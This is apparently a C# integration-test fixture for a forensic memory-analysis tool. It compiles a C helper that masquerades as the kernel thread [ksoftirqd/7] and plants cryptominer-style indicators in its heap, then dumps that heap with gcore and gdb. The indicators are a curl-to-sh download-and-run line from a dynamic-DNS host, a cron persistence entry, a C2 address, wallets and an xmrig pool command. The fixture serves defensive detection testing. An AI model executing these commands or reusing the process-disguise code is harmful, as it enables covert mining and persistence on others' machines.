using System.Globalization;
using CaseManager.Tests.Shared;

namespace CaseManager.Infrastructure.IntegrationTests.Analysis.Memory;

/// <summary>
/// Compiles a tiny C program that disguises itself as the kernel thread <c>[ksoftirqd/7]</c> (argv[0] via
/// re-exec, comm via prctl) and copies planted indicators, ASCII and UTF-16LE at even and odd addresses,
/// into its heap. Once it reports ready on stdout, <c>gcore</c> writes a core and <c>gdb dump binary
/// memory</c> writes the [heap] region found in /proc/PID/maps. Runs once per test class.
/// </summary>
public sealed class HelperProcessFixture : IAsyncLifetime
{
    public const string ConfigPath = "/etc/security/ntps.conf";
    public const string DdnsDomain = "sjb555.3322.org";
    public const string Url = "http://sjb555.3322.org:8080/update/ntps.conf";
    public const string C2Ip = "170.178.191.191";
    public const string MoneroWallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
    public const string BitcoinWallet = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa";
    public const string DownloadAndRun = "curl -fsSL http://sjb555.3322.org/i.sh | sh";
    public const string CronLine = "*/5 * * * * /etc/security/ntps.conf >/dev/null 2>&1";
    public const string StratumUrl = "stratum+tcp://pool.supportxmr.com:3333";
    public const string WidePath = @"C:\Users\Public\svchost.exe";
    public const string WideOddUrl = "http://update.sjb555.3322.org/w";
    public const string DisguisedName = "[ksoftirqd/7]";

    private const string Source = """
        #define _GNU_SOURCE
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <unistd.h>
        #include <sys/prctl.h>
        #include <uchar.h>

        static const char *planted[] = {
            "/etc/security/ntps.conf",
            "http://sjb555.3322.org:8080/update/ntps.conf",
            "c2 170.178.191.191:6667",
            "wallet 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
            "btc 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
            "curl -fsSL http://sjb555.3322.org/i.sh | sh",
            "*/5 * * * * /etc/security/ntps.conf >/dev/null 2>&1",
            "xmrig --donate-level 1 -o stratum+tcp://pool.supportxmr.com:3333",
            "\ttab-led string kept by GNU",
            0 };
        static const char16_t wide_even[] = u"C:\\Users\\Public\\svchost.exe";
        static const char16_t wide_odd[] = u"http://update.sjb555.3322.org/w";

        int main(int argc, char **argv) {
            if (argc < 2 || strcmp(argv[1], "--child") != 0) {
                execl("/proc/self/exe", "[ksoftirqd/7]", "--child", (char *)0);
                return 99;
            }
            prctl(PR_SET_NAME, "[ksoftirqd/7]", 0, 0, 0);
            char *heap = malloc(65536);
            memset(heap, 0, 65536);
            char *p = heap;
            for (int i = 0; planted[i]; i++) { strcpy(p, planted[i]); p += strlen(planted[i]) + 9; }
            p = (char *)(((size_t)p + 15) & ~(size_t)15);
            memcpy(p, wide_even, sizeof wide_even); p += sizeof wide_even + 16;
            memcpy(p + 1, wide_odd, sizeof wide_odd);
            printf("ready %d\n", getpid());
            fflush(stdout);
            char c;
            while (read(0, &c, 1) > 0) { }
            free(heap);
            return 0;
        }
        """;

    private LiveHelperProcess? _helper;

    public string Directory { get; } = Path.Combine(Path.GetTempPath(), "casemgr-memtest-" + Guid.NewGuid().ToString("N")[..8]);

    public string BinaryPath => Path.Combine(Directory, "ntps-helper");

    public string CorePath { get; private set; } = string.Empty;

    public string HeapDumpPath => Path.Combine(Directory, "heap.dump");

    public int Pid { get; private set; }

    public async Task InitializeAsync()
    {
        if (DumpTools.MissingReason is not null)
        {
            return;
        }

        _helper = await LiveHelperProcess.StartAsync(Directory, "ntps-helper", Source);
        Pid = _helper.Pid;

        using var dumping = new CancellationTokenSource(TimeSpan.FromSeconds(120));
        CorePath = await _helper.GcoreAsync(dumping.Token);

        var heap = (await File.ReadAllLinesAsync($"/proc/{Pid}/maps")).Single(l => l.EndsWith("[heap]", StringComparison.Ordinal));
        var range = heap.Split(' ')[0].Split('-');
        var (code, _, stderr) = await DumpTools.RunAsync(DumpTools.Gdb!,
            ["-batch", "-nx", "-p", Pid.ToString(CultureInfo.InvariantCulture), "-ex", $"dump binary memory {HeapDumpPath} 0x{range[0]} 0x{range[1]}"], dumping.Token);
        File.Exists(HeapDumpPath).ShouldBeTrue($"gdb dump failed ({code}): {stderr}");
    }

    public async Task DisposeAsync()
    {
        if (_helper is not null)
        {
            await _helper.DisposeAsync();
        }

        if (System.IO.Directory.Exists(Directory))
        {
            System.IO.Directory.Delete(Directory, recursive: true);
        }
    }
}
